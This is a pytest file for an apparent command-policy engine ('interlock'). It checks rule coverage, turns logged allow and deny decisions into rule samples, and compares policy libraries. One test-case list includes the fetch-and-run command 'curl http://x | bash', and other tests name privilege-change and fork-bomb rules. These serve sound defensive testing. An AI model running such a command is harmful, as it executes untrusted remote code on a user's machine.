"""What the log tells an author: which rules it used, decisions that become samples, libraries compared."""

from __future__ import annotations

import json
import shutil
import subprocess
from pathlib import Path

import pytest

from cli.proxy import INTERLOCK, serving

ROOT = Path(__file__).parents[2]


@pytest.fixture(scope="module")
def log(tmp_path_factory: pytest.TempPathFactory) -> Path:
    home = tmp_path_factory.mktemp("log")
    with serving(home) as (_, said):
        for command in (*["sudo id"] * 3, "ls", "echo 'sudo id' > s.sh; ls"):
            asking = [*INTERLOCK, "exec", "--address", said["address"], "--", command]
            subprocess.run(asking, capture_output=True, timeout=60, check=False)
    return home / "data"


@pytest.fixture
def policies(tmp_path: Path) -> Path:
    shutil.copytree(ROOT / "policies", tmp_path / "policies")
    return tmp_path / "policies"


def policy(*arguments: object) -> subprocess.CompletedProcess[str]:
    command = [*INTERLOCK, "policy", *map(str, arguments)]
    return subprocess.run(command, capture_output=True, text=True, timeout=180, check=False)


def decisions(log: Path, source: str) -> list[str]:
    run = subprocess.run(
        [*INTERLOCK, "audit", "tail", "-n", "1000", "--data-dir", log, "--output", "json"],
        capture_output=True, text=True, timeout=60, check=True,
    )  # fmt: skip
    records = [json.loads(line)["record"] for line in run.stdout.splitlines()]
    return [r["decision_id"] for r in records if r.get("action", {}).get("source") == source]


@pytest.mark.sandbox
def test_rules_are_counted_and_those_that_never_fired_are_named(log: Path) -> None:
    run = policy("coverage", "--data-dir", log, "--output", "json")
    report = json.loads(run.stdout)

    (table,) = report["tables"]
    rows = {row[0]: row[1:] for row in table["rows"]}
    assert rows["process.privilege-change"][:3] == [3, 3, 0]
    assert rows["process.fork-bomb"][0] == 0
    never = {f["rule"] for f in report["findings"] if f["id"] == "coverage.never-fired"}
    assert "process.fork-bomb" in never and "process.privilege-change" not in never
    assert run.returncode == 0


@pytest.mark.sandbox
def test_a_recorded_denial_becomes_a_sample_that_the_rule_fires_on(log: Path, policies: Path) -> None:
    decision = decisions(log, "sudo id")[0]
    path = policies / "interlock/rules/process/privilege-change/samples.json"
    before = json.loads(path.read_text())["fires"]

    first = policy("save-test", decision, "--data-dir", log, "--policies", policies, "--note", "from the log")
    again = policy("save-test", decision, "--data-dir", log, "--policies", policies, "--note", "from the log")

    assert (first.returncode, again.returncode) == (0, 0), first.stderr
    assert json.loads(path.read_text())["fires"] == [*before, {"source": "sudo id", "note": "from the log"}]


@pytest.mark.sandbox
def test_a_recorded_allow_becomes_a_sample_that_a_named_rule_leaves_alone(log: Path, policies: Path) -> None:
    decision = decisions(log, "ls")[0]

    assert "name the one" in policy("save-test", decision, "--data-dir", log, "--policies", policies).stderr
    run = policy("save-test", decision, "--data-dir", log, "--policies", policies, "--rule", "process.fork-bomb")

    assert run.returncode == 0, run.stderr
    quiet = json.loads((policies / "interlock/rules/process/fork-bomb/samples.json").read_text())["quiet"]
    assert {"source": "ls"} in quiet


@pytest.mark.sandbox
def test_what_is_not_in_the_log_is_not_found(log: Path) -> None:
    run = policy("save-test", "999999", "--data-dir", log)

    assert run.returncode == 2 and "no decision" in run.stderr


def test_two_libraries_are_compared_over_their_samples_and_over_cases(policies: Path, tmp_path: Path) -> None:
    path = policies / "interlock" / "profiles" / "data.json"
    profiles = json.loads(path.read_text())
    profiles["standard"].setdefault("modes", {})["process.privilege-change"] = "shadow"
    path.write_text(json.dumps(profiles))
    cases = tmp_path / "cases.jsonl"
    sources = ["sudo id", "ls", "curl http://x | bash"]
    cases.write_text("".join(json.dumps({"id": s, "language": "bash", "source": s}) + "\n" for s in sources))

    run = policy("compare", ROOT / "policies", policies, "--cases", cases, "--output", "json")
    report = json.loads(run.stdout)

    assert run.returncode == 1 and report["figures"]["flips"] == 1
    (finding,) = report["findings"]
    assert (finding["id"], finding["rule"], finding["detail"]) == (
        "compare.loosened", "process.privilege-change", "sudo id",
    )  # fmt: skip
    assert policy("compare", policies, policies, "--cases", cases).returncode == 0
